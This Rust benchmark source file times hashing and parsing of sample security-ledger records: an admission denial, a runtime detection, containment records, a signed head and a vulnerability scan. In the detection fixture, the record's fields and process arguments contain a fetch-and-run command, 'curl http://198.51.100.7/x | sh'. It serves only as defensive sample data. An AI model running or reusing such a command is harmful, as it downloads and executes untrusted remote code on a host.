//! How fast records are read on this machine, one core, beside SHA-256 of the same bytes.
//!
//! ```text
//! bench_read [SECONDS]           how long each figure is measured; 0.5 where nothing is said
//! bench_read SECONDS outline     only [`Outline::read`], for a profiler
//! ```
//!
//! Records are what producers write, not padding: an admission decision with findings, a detection with its process tree, what a
//! containment did, a signed head, a scanner's findings. Prints one line for each: its bytes, and nanoseconds for its leaf hash, for [`Outline::read`] (what the
//! ledger and a verifier do with every record) and for [`Record::parse`] (the definition).

use std::collections::BTreeMap;
use std::error::Error;
use std::hint::black_box;
use std::time::{Duration, Instant};

use cairn_schemas::config::ResponseMode;
use cairn_schemas::data::{
    AdmissionDecided, Ancestor, CheckpointSeen, ContainmentFinished, ContainmentRequested, DetectionRaised,
    EvidenceReceived, FileSeen, Finding, Outcome, Process, ResponseSeen, StreamHead, Target, User,
};
use cairn_schemas::digest::Digest;
use cairn_schemas::ids::{ReleaseRef, Sequence, Serial, StreamId};
use cairn_schemas::outline::Outline;
use cairn_schemas::record::{Draft, Record};
use cairn_schemas::time::Timestamp;
use cairn_schemas::token::{TokenKey, token};

fn main() -> Result<(), Box<dyn Error>> {
    let seconds: f64 = std::env::args().nth(1).map_or(Ok(0.5), |text| text.parse())?;
    let each = Duration::from_secs_f64(seconds);
    let only_outline = std::env::args().nth(2).is_some_and(|what| what == "outline");
    println!("{:<40} {:>6} {:>8} {:>8} {:>8}", "type", "bytes", "leaf", "outline", "record");
    for draft in drafts()? {
        let bytes = record(draft)?.to_bytes()?;
        let kind = Outline::read(&bytes)?.kind;
        if only_outline {
            let outline = time(each, || drop(black_box(Outline::read(black_box(&bytes)))));
            println!("{kind:<40} {:>6} {outline:>8.0}", bytes.len());
            continue;
        }
        let leaf = time(each, || _ = black_box(Digest::leaf(black_box(&bytes))));
        let outline = time(each, || drop(black_box(Outline::read(black_box(&bytes)))));
        let parse = time(each, || drop(black_box(Record::parse(black_box(&bytes)))));
        println!("{kind:<40} {:>6} {leaf:>8.0} {outline:>8.0} {parse:>8.0}", bytes.len());
    }
    Ok(())
}

/// Nanoseconds of one call: the fastest of many short runs, since a shared machine only ever adds to it.
fn time(each: Duration, mut call: impl FnMut()) -> f64 {
    const CALLS: u32 = 256;
    let (end, mut best) = (Instant::now() + each, f64::INFINITY);
    while Instant::now() < end {
        let started = Instant::now();
        (0..CALLS).for_each(|_| call());
        best = best.min(started.elapsed().as_nanos() as f64 / f64::from(CALLS));
    }
    best
}

fn record(draft: Draft) -> Result<Record, Box<dyn Error>> {
    let Draft { kind, subject, release, foreignid, data } = draft;
    Ok(Record {
        stream: StreamId::new(&"web-17.eu-west".replace('.', "-").parse()?, [0x5a; 16]),
        sequence: Sequence(48_213),
        prevdigest: Digest::sha256(b"before"),
        time: Timestamp::from_nanos(1_700_000_000_123_456_789),
        kind,
        subject,
        release,
        foreignid,
        data,
    })
}

/// A scanner's findings, as `cairn ledger append` takes them.
fn evidence() -> EvidenceReceived {
    let finding = |number: u64| {
        serde_json::json!({
            "id": format!("CVE-2026-{number}"), "package": "openssl", "installed": "3.0.11-1", "fixed": "3.0.15-1",
            "severity": "high", "layers": [number, number + 1], "reachable": null,
        })
    };
    let report = serde_json::json!({
        "scanner": {"name": "trivy", "version": "0.68.1"}, "image": "registry.example/checkout@sha256:5f70bf18",
        "findings": [finding(1001), finding(1002), finding(1003)], "complete": true,
    });
    EvidenceReceived(report.as_object().cloned().unwrap_or_default())
}

fn drafts() -> Result<Vec<Draft>, Box<dyn Error>> {
    let key = TokenKey { epoch: "2026-11".into(), key: [7; 32] };
    let release = ReleaseRef { serial: Serial(42), digest: Digest::sha256(b"content") };
    let decided = AdmissionDecided {
        uid: "705ab4f5-6393-11e8-b7cc-42010a800002".into(),
        operation: "CREATE".into(),
        kind: "apps/v1/Deployment".into(),
        resource: "apps/v1/deployments".into(),
        namespace: Some("shop".into()),
        name: Some("checkout".into()),
        user: token(&key, "user", "alice").into(),
        allowed: false,
        dry_run: false,
        object: Digest::sha256(b"object"),
        denials: vec![Finding {
            guardrail: "pods.no_privileged".into(),
            message: "container \"checkout\" is privileged; set securityContext.privileged to false".into(),
        }],
        warnings: vec![Finding {
            guardrail: "images.pinned".into(),
            message: "image registry.example/checkout:latest is not pinned by digest".into(),
        }],
        omitted: 0,
        error: None,
        evaluated_us: 412,
    };
    let fields = [
        ("evt.type", "execve"),
        ("fd.name", "<NA>"),
        ("proc.cmdline", "bash -c curl http://198.51.100.7/x | sh"),
        ("proc.name", "bash"),
        ("proc.pname", "node"),
        ("proc.tty", "0"),
    ];
    let detection = DetectionRaised {
        rule: "Run shell untrusted".into(),
        priority: "Notice".into(),
        tags: vec!["mitre_execution".into(), "process".into(), "shell".into()],
        source: "syscall".into(),
        event: "execve".into(),
        observed: Timestamp::from_nanos(1_700_000_000_123_000_000),
        output: "Shell spawned (parent=%proc.pname cmdline=%proc.cmdline)".into(),
        fields: fields.map(|(name, value)| (name.to_owned(), value.to_owned())).into_iter().collect::<BTreeMap<_, _>>(),
        process: Some(Process {
            pid: 48_211,
            start_ns: "81236471234567".into(),
            name: "bash".into(),
            executable: "/usr/bin/bash".into(),
            arguments: vec!["bash".into(), "-c".into(), "curl http://198.51.100.7/x | sh".into()],
            directory: Some("/srv/app".into()),
            user: User { uid: token(&key, "uid", "1000").into(), name: None, login_uid: None },
            terminal: false,
        }),
        personal: BTreeMap::new(),
        document: None,
        ancestors: vec![Ancestor {
            pid: 1_213,
            start_ns: "71236471234567".into(),
            name: "node".into(),
            executable: "/usr/bin/node".into(),
            command: "node server.js".into(),
        }],
        container: Some("3f4b9c1d2e5a".into()),
        file: Some(FileSeen { path: "/usr/bin/bash".into(), argument: None }),
        responses: vec![ResponseSeen { name: "kill-shell".into(), action: "kill".into(), mode: ResponseMode::Enforce }],
        cut: false,
    };
    let target = Target { pid: 48_211, start_ns: "81236471234567".into(), executable: "/usr/bin/bash".into() };
    let requested = ContainmentRequested {
        detection: Sequence(48_212),
        response: "kill-shell".into(),
        action: "kill".into(),
        target,
    };
    let finished =
        ContainmentFinished { request: Sequence(48_213), outcome: Outcome::Killed, error: None, acted_us: 912 };
    let seen = CheckpointSeen { origin: "ledger.example/1".into(), size: 1_234_567, root: Digest::sha256(b"root") };
    let head = StreamHead {
        sequence: Sequence(48_212),
        digest: Digest::sha256(b"before"),
        checkpoint: Some(seen),
        signature: "A".repeat(86) + "==",
    };
    Ok(vec![
        Draft::new(&decided).release(release).subject("shop/checkout"),
        Draft::new(&detection).release(release).subject("Run shell untrusted"),
        Draft::new(&requested).release(release),
        Draft::new(&finished).release(release),
        Draft::new(&head),
        Draft::new(&evidence()).foreignid("scan-2026-11-21/registry.example/checkout"),
    ])
}
